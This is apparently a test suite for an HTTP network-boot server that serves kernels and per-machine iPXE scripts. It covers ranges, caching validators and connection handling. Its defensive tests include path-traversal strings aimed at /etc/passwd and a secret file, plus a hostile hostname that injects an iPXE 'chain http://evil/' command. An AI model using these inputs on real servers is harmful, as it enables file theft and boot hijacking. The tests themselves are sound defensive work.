// The HTTP server against real curl on loopback: ranges, validators, HEAD,
// path escapes, per-machine iPXE scripts and the timeline (the JSON API is in
// management.test.ts; this port refuses it).
import test from 'ava';
import { execFile } from 'node:child_process';
import { mkdtemp, mkdir, writeFile, readFile, rm, symlink } from 'node:fs/promises';
import { connect } from 'node:net';
import { randomBytes } from 'node:crypto';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { MountedStore } from '../../boot/store.ts';
import { BootTimeline } from '../../boot/timeline.ts';
import { createSelector } from '../../boot/selection.ts';
import type { Profile, Group, MachineOverride } from '../../boot/selection.ts';
import { createLogger, silentLogger } from '../../boot/log.ts';
import { bufferBudget, CHUNK_BYTES, serveEntry, startHttpServer } from '../../boot/http/index.ts';
import { createServer } from 'node:http';
import type { HttpServer } from '../../boot/http/index.ts';

interface CurlResult {
  status: number;
  headers: Record<string, string>;
  body: Buffer;
}

let dir = '';
let seq = 0;
let server: HttpServer;
const timeline = new BootTimeline();
const kernel = randomBytes(1024 * 1024 + 123);
const initrd = randomBytes(300_000);
const big = randomBytes(16 * 1024 * 1024);

const MAC_A = '52:54:00:00:00:0a';
const MAC_B = '52:54:00:00:00:0b';
const MAC_OVERRIDE = '52:54:00:00:00:0c';
const MAC_UNKNOWN = '52:54:00:00:00:0d';
const hyp = (mac: string) => mac.replace(/:/g, '-');

/** Runs curl; headers of the last response, body as bytes. */
function curl(args: string[]): Promise<CurlResult> {
  const n = seq++;
  const hfile = path.join(dir, `h${n}`);
  const bfile = path.join(dir, `b${n}`);
  return new Promise((resolve, reject) => {
    execFile('curl', ['-sS', '--max-time', '120', '-D', hfile, '-o', bfile, ...args], async (err) => {
      if (err) return reject(err);
      const raw = await readFile(hfile, 'latin1');
      const blocks = raw.split(/\r\n\r\n/).filter((b) => b.trim() !== '');
      const lines = blocks[blocks.length - 1].split('\r\n');
      const headers: Record<string, string> = {};
      for (const l of lines.slice(1)) {
        const i = l.indexOf(':');
        headers[l.slice(0, i).toLowerCase()] = l.slice(i + 1).trim();
      }
      const body = await readFile(bfile).catch(() => Buffer.alloc(0));
      resolve({ status: Number(lines[0].split(' ')[1]), headers, body });
    });
  });
}

/** Raw request over TCP, for what curl will not send or show; `halfClose` sends FIN right after it. */
function raw(request: string, port: number, halfClose = false): Promise<Buffer> {
  return new Promise((resolve, reject) => {
    const s = connect(port, '127.0.0.1');
    const chunks: Buffer[] = [];
    s.on('data', (d) => chunks.push(d));
    s.on('end', () => resolve(Buffer.concat(chunks)));
    s.on('error', reject);
    if (halfClose) s.end(request);
    else s.write(request);
  });
}

/** Status line and body of a raw HTTP/1.1 response with a Content-Length. */
function parseRaw(wire: Buffer): { status: string; body: Buffer } {
  const end = wire.indexOf('\r\n\r\n');
  const head = wire.subarray(0, end < 0 ? wire.length : end).toString('latin1');
  return { status: head.split('\r\n')[0], body: end < 0 ? Buffer.alloc(0) : wire.subarray(end + 4) };
}

const url = (p: string) => `${server.url}${p}`;

const profiles: Profile[] = [
  { name: 'zos-prod', kernel: 'images/zos/vmlinuz', initrd: ['images/zos/initramfs.img'], args: { nomodeset: null, version: 'v3', runmode: 'prod', panic: 7200 } },
  { name: 'zos-qa', kernel: 'images/qa/vmlinuz', initrd: ['images/qa/initramfs.img'], args: { version: 'v3', runmode: 'qa', panic: 7200 }, cmdline: 'console=ttyS0' },
];
const groups: Group[] = [
  { name: 'rack-a', profile: 'zos-prod', selector: { hostname: 'node-a' }, args: { farmer_id: 101 } },
  { name: 'qa-lab', profile: 'zos-qa', selector: { serial: 'SN-QA' }, args: { farmer_id: 202 } },
];
const machines: MachineOverride[] = [{ mac: MAC_OVERRIDE, args: { farmer_id: 999, runmode: 'dev' } }];

test.before(async () => {
  dir = await mkdtemp(path.join(tmpdir(), 'zb-http-'));
  const store = path.join(dir, 'store');
  await mkdir(path.join(store, 'images/zos'), { recursive: true });
  await mkdir(path.join(store, 'images/qa'), { recursive: true });
  await writeFile(path.join(store, 'images/zos/vmlinuz'), kernel);
  await writeFile(path.join(store, 'images/zos/initramfs.img'), initrd);
  await writeFile(path.join(store, 'images/qa/vmlinuz'), kernel.subarray(0, 1000));
  await writeFile(path.join(store, 'images/qa/initramfs.img'), initrd.subarray(0, 1000));
  await writeFile(path.join(store, 'big.bin'), big);
  await writeFile(path.join(store, 'empty'), '');
  await writeFile(path.join(dir, 'secret.txt'), 'TOPSECRET\n');
  await symlink(path.join(dir, 'secret.txt'), path.join(store, 'images/escape'));
  const ipxe = path.join(dir, 'ipxe');
  await mkdir(ipxe);
  await writeFile(path.join(ipxe, 'undionly.kpxe'), 'fake-undionly');
  server = await startHttpServer({
    store: new MountedStore([{ prefix: 'ipxe', dir: ipxe }, { prefix: '', dir: store }]),
    selector: createSelector(profiles, groups, machines),
    timeline,
    log: silentLogger,
    host: '127.0.0.1',
    port: 0,
    timeouts: { headersMs: 1500, requestMs: 5000 },
  });
});

test.after.always(async () => {
  await server?.close();
  if (dir) await rm(dir, { recursive: true, force: true });
});

test('a full GET carries length, type, validators and accepts ranges', async (t) => {
  const r = await curl([url('/images/zos/vmlinuz')]);
  t.is(r.status, 200);
  t.true(r.body.equals(kernel));
  t.is(r.headers['content-length'], String(kernel.length));
  t.is(r.headers['content-type'], 'application/octet-stream');
  t.is(r.headers['accept-ranges'], 'bytes');
  t.regex(r.headers.etag, /^"[0-9a-f-]+"$/);
  t.true(Number.isFinite(Date.parse(r.headers['last-modified'])));
});

test('single ranges: first bytes, middle, suffix and open-ended', async (t) => {
  const size = kernel.length;
  const cases: [string, number, number][] = [
    ['0-99', 0, 99],
    ['5000-70000', 5000, 70000],
    ['-500', size - 500, size - 1],
    [`${size - 1000}-`, size - 1000, size - 1],
    [`100-${size + 5000}`, 100, size - 1],
  ];
  for (const [spec, start, end] of cases) {
    const r = await curl(['-r', spec, url('/images/zos/vmlinuz')]);
    t.is(r.status, 206, spec);
    t.is(r.headers['content-range'], `bytes ${start}-${end}/${size}`, spec);
    t.is(r.headers['content-length'], String(end - start + 1), spec);
    t.true(r.body.equals(kernel.subarray(start, end + 1)), spec);
  }
});

test('an unsatisfiable range gets 416 with the size; a malformed one the whole file', async (t) => {
  const r = await curl(['-r', `${kernel.length}-`, url('/images/zos/vmlinuz')]);
  t.is(r.status, 416);
  t.is(r.headers['content-range'], `bytes */${kernel.length}`);
  const odd = await curl(['-H', 'Range: bytes=9-3', url('/images/zos/initramfs.img')]);
  t.is(odd.status, 200);
  t.true(odd.body.equals(initrd));
  const unit = await curl(['-H', 'Range: pages=1-2', url('/images/zos/initramfs.img')]);
  t.is(unit.status, 200);
});

test('several ranges come back as multipart/byteranges', async (t) => {
  const r = await curl(['-r', '0-9,1000-1019,-5', url('/images/zos/initramfs.img')]);
  t.is(r.status, 206);
  const m = /^multipart\/byteranges; boundary=(\S+)$/.exec(r.headers['content-type']);
  t.truthy(m);
  t.is(Number(r.headers['content-length']), r.body.length);
  const parts = r.body.toString('latin1').split(`--${m![1]}`).slice(1, -1);
  t.is(parts.length, 3);
  const want: [number, number][] = [[0, 9], [1000, 1019], [initrd.length - 5, initrd.length - 1]];
  parts.forEach((p, i) => {
    const [head, body] = p.split('\r\n\r\n');
    t.true(head.includes(`Content-Range: bytes ${want[i][0]}-${want[i][1]}/${initrd.length}`));
    t.true(Buffer.from(body.replace(/\r\n$/, ''), 'latin1').equals(initrd.subarray(want[i][0], want[i][1] + 1)));
  });
});

test('If-Range with a stale validator returns the whole file', async (t) => {
  const fresh = await curl(['-I', url('/images/zos/initramfs.img')]);
  const same = await curl(['-r', '0-9', '-H', `If-Range: ${fresh.headers.etag}`, url('/images/zos/initramfs.img')]);
  t.is(same.status, 206);
  const stale = await curl(['-r', '0-9', '-H', 'If-Range: "old"', url('/images/zos/initramfs.img')]);
  t.is(stale.status, 200);
  t.is(stale.body.length, initrd.length);
});

test('HEAD answers with the GET headers and no body', async (t) => {
  const get = await curl([url('/images/zos/vmlinuz')]);
  const head = await curl(['-I', url('/images/zos/vmlinuz')]);
  t.is(head.status, 200);
  for (const h of ['content-length', 'content-type', 'etag', 'last-modified', 'accept-ranges']) t.is(head.headers[h], get.headers[h], h);
  // On the wire: the response ends right after the header block.
  const wire = await raw('HEAD /images/zos/vmlinuz HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n', server.port);
  const text = wire.toString('latin1');
  t.true(text.startsWith('HTTP/1.1 200'));
  t.is(text.indexOf('\r\n\r\n') + 4, wire.length);
  const ranged = await curl(['-I', '-r', '10-19', url('/images/zos/vmlinuz')]);
  t.is(ranged.status, 206);
  t.is(ranged.headers['content-length'], '10');
});

test('unknown files are 404, other methods 405, empty files 200 with length 0', async (t) => {
  t.is((await curl([url('/images/zos/nope')])).status, 404);
  t.is((await curl([url('/images')])).status, 404);
  t.is((await curl([url('/')])).status, 404);
  const post = await curl(['-X', 'POST', '-d', 'x', url('/images/zos/vmlinuz')]);
  t.is(post.status, 405);
  t.is(post.headers.allow, 'GET, HEAD');
  const empty = await curl([url('/empty')]);
  t.is(empty.status, 200);
  t.is(empty.headers['content-length'], '0');
  const emptyRange = await curl(['-r', '0-9', url('/empty')]);
  t.is(emptyRange.status, 416);
});

test('ETag and Last-Modified revalidate to 304', async (t) => {
  const first = await curl([url('/images/zos/initramfs.img')]);
  const etag = first.headers.etag;
  const inm = await curl(['-H', `If-None-Match: ${etag}`, url('/images/zos/initramfs.img')]);
  t.is(inm.status, 304);
  t.is(inm.body.length, 0);
  t.is(inm.headers.etag, etag);
  t.is((await curl(['-H', `If-None-Match: "other", W/${etag}`, url('/images/zos/initramfs.img')])).status, 304);
  t.is((await curl(['-H', 'If-None-Match: "other"', url('/images/zos/initramfs.img')])).status, 200);
  t.is((await curl(['-H', `If-Modified-Since: ${first.headers['last-modified']}`, url('/images/zos/initramfs.img')])).status, 304);
  t.is((await curl(['-H', 'If-Modified-Since: Thu, 01 Jan 1998 00:00:00 GMT', url('/images/zos/initramfs.img')])).status, 200);
  // If-None-Match wins over If-Modified-Since.
  t.is((await curl(['-H', 'If-None-Match: "other"', '-H', `If-Modified-Since: ${first.headers['last-modified']}`, url('/images/zos/initramfs.img')])).status, 200);
  t.is((await curl(['-H', 'If-Match: "other"', url('/images/zos/initramfs.img')])).status, 412);
});

test('paths that leave the store are refused, however they are spelled', async (t) => {
  const attempts: string[][] = [
    ['--path-as-is', url('/../secret.txt')],
    ['--path-as-is', url('/images/../../secret.txt')],
    ['--path-as-is', url('/../../../../etc/passwd')],
    [url('/%2e%2e/secret.txt')],
    [url('/images/%2E%2E/%2e%2e/secret.txt')],
    [url('/..%2fsecret.txt')],
    [url('/..%5csecret.txt')],
    ['--path-as-is', url('/..\\secret.txt')],
    ['--path-as-is', url('/images\\..\\..\\secret.txt')],
    [url('/images/escape')],
    [url('/images/%00')],
    [url('/%zz')],
  ];
  for (const a of attempts) {
    const r = await curl(a);
    t.is(r.status, 400, a.join(' '));
    t.false(r.body.toString().includes('TOPSECRET'), a.join(' '));
    t.false(r.body.toString().includes('root:'), a.join(' '));
  }
  // Without --path-as-is curl resolves the dots itself: still nothing outside.
  const tidy = await curl([url('/../secret.txt')]);
  t.is(tidy.status, 404);
});

test('the iPXE binaries are served under /ipxe/', async (t) => {
  const r = await curl([url('/ipxe/undionly.kpxe')]);
  t.is(r.status, 200);
  t.is(r.body.toString(), 'fake-undionly');
});

test('/boot.ipxe chains to the per-machine script with the booted MAC and labels', async (t) => {
  const r = await curl([url('/boot.ipxe')]);
  t.is(r.status, 200);
  const s = r.body.toString();
  t.true(s.startsWith('#!ipxe\n'));
  t.true(s.includes(`chain --replace --autofree ${server.url}/ipxe?mac=\${netX/mac:hexhyp}&uuid=\${uuid}&serial=\${serial:uristring}&arch=\${buildarch}`));
  t.is(r.headers['cache-control'], 'no-store');
});

const kernelLine = (script: string) => script.split('\n').find((l) => l.startsWith('imgfetch --name kernel '))!;

test('machines in different groups get different kernels and arguments; a per-MAC entry wins', async (t) => {
  const a = (await curl([url(`/ipxe?mac=${hyp(MAC_A)}&hostname=node-a&arch=x86_64&platform=pcbios`)])).body.toString();
  const b = (await curl([url(`/ipxe?mac=${hyp(MAC_B)}&serial=SN-QA&arch=x86_64`)])).body.toString();
  const o = (await curl([url(`/ipxe?mac=${MAC_OVERRIDE}&hostname=node-a`)])).body.toString();
  for (const s of [a, b, o]) t.true(s.startsWith('#!ipxe\n'));
  t.true(kernelLine(a).startsWith(`imgfetch --name kernel ${server.url}/images/zos/vmlinuz?mac=${hyp(MAC_A)} nomodeset version=v3 runmode=prod panic=7200 farmer_id=101 zeroboot.server=${server.url} BOOTIF=01-${hyp(MAC_A)} initrd=initrd0 `));
  t.true(kernelLine(b).startsWith(`imgfetch --name kernel ${server.url}/images/qa/vmlinuz?mac=${hyp(MAC_B)} version=v3 runmode=qa panic=7200 farmer_id=202 zeroboot.server=${server.url} console=ttyS0 BOOTIF=01-${hyp(MAC_B)} initrd=initrd0 `));
  t.regex(kernelLine(o), / runmode=dev panic=7200 farmer_id=999 /);
  t.true(a.includes(`initrd --name initrd0 ${server.url}/images/zos/initramfs.img?mac=${hyp(MAC_A)}`));
});

test('an unknown machine gets an iPXE script that says why, not a 500', async (t) => {
  const r = await curl([url(`/ipxe?mac=${hyp(MAC_UNKNOWN)}&hostname=stranger&serial=X1`)]);
  t.is(r.status, 200);
  const s = r.body.toString();
  t.true(s.startsWith('#!ipxe\n'));
  t.regex(s, /echo zeroboot: no group or machine entry selects a profile for mac=52:54:00:00:00:0d/);
  t.regex(s, /\nreboot\n$/);
  t.false(/at .*\.ts:\d+/.test(s));
  const ev = timeline.events(MAC_UNKNOWN);
  t.is(ev.at(-1)?.kind, 'http.error');
  t.regex(ev.at(-1)?.reason ?? '', /no group or machine entry/);
});

test('a hostile label cannot inject commands into the script', async (t) => {
  const evil = encodeURIComponent('x\nchain http://evil/${net0/ip} && reboot');
  const r = await curl([url(`/ipxe?mac=52-54-00-00-00-ee&hostname=${evil}`)]);
  t.is(r.status, 200);
  for (const line of r.body.toString().split('\n').filter((l) => l && !l.startsWith('#'))) {
    t.regex(line, /^(echo zeroboot: [^$&|{}\n]*|:reboot|sleep 30|reboot)$/, line);
  }
});

test('a script request without a MAC is a 400', async (t) => {
  const r = await curl([url('/ipxe?hostname=node-a')]);
  t.is(r.status, 400);
  t.true(r.body.toString().startsWith('#!ipxe\n'));
});

test('downloads are attributed to the machine: script, kernel, initrd, on its timeline', async (t) => {
  const script = (await curl([url(`/ipxe?mac=${hyp(MAC_A)}&hostname=node-a&uuid=1234-ABCD`)])).body.toString();
  const k = /imgfetch --name kernel (\S+)/.exec(script)![1];
  const i = /initrd --name initrd0 (\S+)/.exec(script)![1];
  t.is((await curl([k])).body.length, kernel.length);
  t.is((await curl([i])).body.length, initrd.length);
  await curl([url(`/images/zos/missing?mac=${hyp(MAC_A)}`)]);
  const events = timeline.events(MAC_A);
  t.deepEqual(events.slice(-4).map((e) => e.kind), ['http.script', 'http.kernel', 'http.initrd', 'http.error']);
  const [scriptEv, kernelEv, initrdEv, errorEv] = events.slice(-4);
  t.like(scriptEv.detail, { profile: 'zos-prod', selection: 'group rack-a', uuid: '1234-ABCD' });
  t.like(kernelEv.detail, { path: 'images/zos/vmlinuz', status: 200, bytes: kernel.length });
  t.like(initrdEv.detail, { path: 'images/zos/initramfs.img', status: 200, bytes: initrd.length });
  t.like(errorEv.detail, { status: 404 });
});

test('a ranged or aborted download is recorded with the bytes actually sent', async (t) => {
  const mac = '52:54:00:00:01:01';
  await curl(['-r', '0-99', url(`/images/zos/vmlinuz?mac=${mac}`)]);
  const ranged = timeline.events(mac).at(-1)!;
  t.like(ranged.detail, { status: 206, bytes: 100, range: '0-99' });
  // Read the headers and a little body, then hang up.
  await new Promise<void>((resolve) => {
    const s = connect(server.port, '127.0.0.1');
    let got = 0;
    s.on('data', (d) => {
      got += d.length;
      if (got > 64 * 1024) s.destroy();
    });
    s.on('close', () => resolve());
    s.write(`GET /big.bin?mac=${mac} HTTP/1.1\r\nHost: x\r\n\r\n`);
  });
  const deadline = Date.now() + 3000;
  while (timeline.events(mac).length < 2 && Date.now() < deadline) await new Promise((r) => setTimeout(r, 20));
  const aborted = timeline.events(mac).at(-1)!;
  t.is(aborted.kind, 'http.artifact');
  t.regex(aborted.reason ?? '', /closed the connection/);
  t.true((aborted.detail!.bytes as number) < big.length);
  // The server is fine afterwards.
  t.is((await curl([url('/api/health')])).status, 200);
});

test('this port answers /api/health but refuses the machine API, pointing at the management listener', async (t) => {
  t.like(JSON.parse((await curl([url('/api/health')])).body.toString()), { status: 'ok' });
  for (const p of ['/api/machines', `/api/machines/${MAC_A}`, '/api']) {
    const r = await curl([url(p)]);
    t.is(r.status, 404, p);
    t.regex(JSON.parse(r.body.toString()).error, /management listener/, p);
  }
  t.is((await curl(['-X', 'POST', url('/api/machines')])).status, 405);
});

test('garbage on the wire gets a 400 and the server keeps serving', async (t) => {
  const r = await raw('NOT HTTP AT ALL\r\n\r\n', server.port);
  t.regex(r.toString(), /^HTTP\/1.1 400/);
  const huge = await raw(`GET / HTTP/1.1\r\nHost: x\r\nX: ${'a'.repeat(70_000)}\r\n\r\n`, server.port);
  t.regex(huge.toString(), /^HTTP\/1.1 431/);
  t.is((await curl([url('/api/health')])).status, 200);
});

test('a slowloris client is cut off after the header timeout', async (t) => {
  const started = Date.now();
  const closedAfter = await new Promise<number>((resolve) => {
    const s = connect(server.port, '127.0.0.1');
    s.write('GET /big.bin HTTP/1.1\r\nHost: x\r\n');
    const drip = setInterval(() => s.writable && s.write('X-Drip: 1\r\n'), 300);
    s.on('error', () => undefined);
    s.on('close', () => {
      clearInterval(drip);
      resolve(Date.now() - started);
    });
    s.resume();
  });
  // Without the timeout the drip would go on for ever; the upper bound leaves room
  // for timers that stretch on a loaded CI machine (4.7 s seen at load 13).
  t.true(closedAfter >= 1400 && closedAfter < 10_000, `closed after ${closedAfter} ms`);
});

test('keep-alive reuses connections', async (t) => {
  const r = await new Promise<string>((resolve, reject) => {
    execFile('curl', ['-sS', '-v', '-o', '/dev/null', '-o', '/dev/null', url('/api/health'), url('/boot.ipxe')], (err, _out, stderr) => (err ? reject(err) : resolve(stderr)));
  });
  t.regex(r, /Re-using existing connection/);
});

test('close() ends open and busy connections at once', async (t) => {
  const store = new MountedStore([{ prefix: '', dir: path.join(dir, 'store') }]);
  const s = await startHttpServer({ store, selector: createSelector(profiles, groups, machines), timeline: new BootTimeline(), log: silentLogger, host: '127.0.0.1', port: 0 });
  const idle = connect(s.port, '127.0.0.1');
  await new Promise<void>((resolve) => {
    idle.once('data', () => resolve());
    idle.write('GET /api/health HTTP/1.1\r\nHost: x\r\n\r\n');
  });
  const busy = connect(s.port, '127.0.0.1');
  busy.write('GET /big.bin HTTP/1.1\r\nHost: x\r\n\r\n');
  busy.pause(); // a reader that never drains
  await new Promise((r) => setTimeout(r, 200));
  const closed = Promise.all([idle, busy].map((c) => new Promise((r) => (c.destroyed ? r(null) : c.once('close', r)))));
  idle.on('error', () => undefined);
  busy.on('error', () => undefined);
  const t0 = Date.now();
  await s.close();
  t.true(Date.now() - t0 < 1000);
  // A paused socket notices the hang-up only once it reads again.
  busy.resume();
  await closed;
});

test('a second server on the same store: bodies, ranges and aborts through reused buffers', async (t) => {
  const storeDir = path.join(dir, 'store');
  const tl = new BootTimeline();
  const s = await startHttpServer({
    store: new MountedStore([{ prefix: '', dir: storeDir }]),
    selector: createSelector(profiles, groups, machines),
    timeline: tl,
    log: silentLogger,
    host: '127.0.0.1',
    port: 0,
  });
  t.teardown(() => s.close());
  const full = await curl([`${s.url}/big.bin`]);
  t.is(full.status, 200);
  t.true(full.body.equals(big));
  for (const [spec, start, end] of [['0-0', 0, 0], ['262143-262145', 262143, 262145], ['-1000', big.length - 1000, big.length - 1], ['1000000-', 1000000, big.length - 1]] as const) {
    const r = await curl(['-r', spec, `${s.url}/big.bin`]);
    t.is(r.status, 206, spec);
    t.true(r.body.equals(big.subarray(start, end + 1)), spec);
  }
  const multi = await curl(['-r', '0-9,600000-600009', `${s.url}/big.bin`]);
  t.is(multi.status, 206);
  t.is(Number(multi.headers['content-length']), multi.body.length);
  const mac = '52:54:00:00:02:02';
  await new Promise<void>((resolve) => {
    const c = connect(s.port, '127.0.0.1');
    let got = 0;
    c.on('data', (d) => {
      got += d.length;
      if (got > 600 * 1024) c.destroy();
    });
    c.on('close', () => resolve());
    c.write(`GET /big.bin?mac=${mac} HTTP/1.1\r\nHost: x\r\n\r\n`);
  });
  const deadline = Date.now() + 3000;
  while (tl.events(mac).length === 0 && Date.now() < deadline) await new Promise((r) => setTimeout(r, 20));
  const ev = tl.events(mac).at(-1)!;
  t.regex(ev.reason ?? '', /closed the connection/);
  t.true((ev.detail!.bytes as number) < big.length);
});

test('a client that half-closes after its request still gets the file (and the script)', async (t) => {
  const file = parseRaw(await raw('GET /images/zos/initramfs.img HTTP/1.1\r\nHost: x\r\n\r\n', server.port, true));
  t.is(file.status, 'HTTP/1.1 200 OK');
  t.true(file.body.equals(initrd));
  const script = parseRaw(await raw('GET /boot.ipxe HTTP/1.1\r\nHost: x\r\n\r\n', server.port, true));
  t.is(script.status, 'HTTP/1.1 200 OK');
  t.true(script.body.toString().startsWith('#!ipxe\n'));
  // Two pipelined requests, then FIN: both answered, in order.
  const two = (await raw('GET /images/qa/vmlinuz HTTP/1.1\r\nHost: x\r\n\r\nGET /images/qa/initramfs.img HTTP/1.1\r\nHost: x\r\n\r\n', server.port, true)).toString('latin1');
  t.is(two.match(/HTTP\/1.1 200 OK/g)?.length, 2);
  t.true(two.endsWith(initrd.subarray(0, 1000).toString('latin1')));
});

test('absolute-form request targets are served as their path (RFC 9112 section 3.2.2)', async (t) => {
  const host = `127.0.0.1:${server.port}`;
  const file = parseRaw(await raw(`GET http://${host}/images/zos/initramfs.img HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n\r\n`, server.port));
  t.is(file.status, 'HTTP/1.1 200 OK');
  t.true(file.body.equals(initrd));
  const upper = parseRaw(await raw(`HEAD HTTP://${host}/images/zos/vmlinuz HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n\r\n`, server.port));
  t.is(upper.status, 'HTTP/1.1 200 OK');
  const mac = '52:54:00:00:03:03';
  const script = parseRaw(await raw(`GET http://${host}/ipxe?mac=${hyp(mac)}&hostname=node-a HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n\r\n`, server.port));
  t.is(script.status, 'HTTP/1.1 200 OK');
  t.true(script.body.toString().includes(`imgfetch --name kernel ${server.url}/images/zos/vmlinuz?mac=${hyp(mac)}`));
  const root = parseRaw(await raw(`GET http://${host} HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n\r\n`, server.port));
  t.is(root.status, 'HTTP/1.1 404 Not Found');
  // curl sends the absolute form when asked to.
  const viaCurl = await curl(['--request-target', `http://${host}/boot.ipxe`, url('/boot.ipxe')]);
  t.is(viaCurl.status, 200);
});

test('downloads are whole through small buffers when the large-buffer budget is spent, and give it back', async (t) => {
  const store = new MountedStore([{ prefix: '', dir: path.join(dir, 'store') }]);
  for (const bytes of [0, 2 * CHUNK_BYTES]) {
    const budget = bufferBudget(bytes);
    const plain = createServer((req, res) => {
      void store.open('big.bin').then((entry) => serveEntry(req, res, entry, budget));
    });
    await new Promise<void>((resolve) => plain.listen(0, '127.0.0.1', resolve));
    t.teardown(() => plain.close());
    const base = `http://127.0.0.1:${(plain.address() as { port: number }).port}`;
    const full = await curl([`${base}/big.bin`]);
    t.true(full.body.equals(big));
    for (const [spec, start, end] of [['65535-65537', 65535, 65537], ['100000-500000', 100000, 500000], ['-70000', big.length - 70000, big.length - 1]] as const) {
      const r = await curl(['-r', spec, `${base}/big.bin`]);
      t.true(r.body.equals(big.subarray(start, end + 1)), spec);
    }
    // Every download has ended (curl got it all) and given back what it took.
    t.is(budget.take(2 * CHUNK_BYTES), bytes > 0);
  }
});

test('a crowd of machines without a boot script: one warn line with its count, each request still answered and on the timeline', async (t) => {
  const lines: string[] = [];
  const store = new MountedStore([{ prefix: '', dir: path.join(dir, 'store') }]);
  const tl = new BootTimeline();
  const s = await startHttpServer({ store, selector: createSelector(profiles, groups, machines), timeline: tl, log: createLogger({ level: 'info', write: (l) => lines.push(l) }), host: '127.0.0.1', port: 0 });
  t.teardown(() => s.close());
  for (let i = 0; i < 30; i++) {
    const mac = `52:54:00:00:01:${i.toString(16).padStart(2, '0')}`;
    const body = (await raw(`GET /ipxe?mac=${hyp(mac)} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n`, s.port)).toString();
    t.regex(body, /no group or machine entry selects a profile/);
    t.is(tl.events(mac).at(-1)?.kind, 'http.error');
  }
  const warned = lines.filter((l) => l.includes('no boot script for machine'));
  t.is(warned.length, 1, lines.join('\n'));
  t.regex(warned[0]!, /count=1\b/);
});
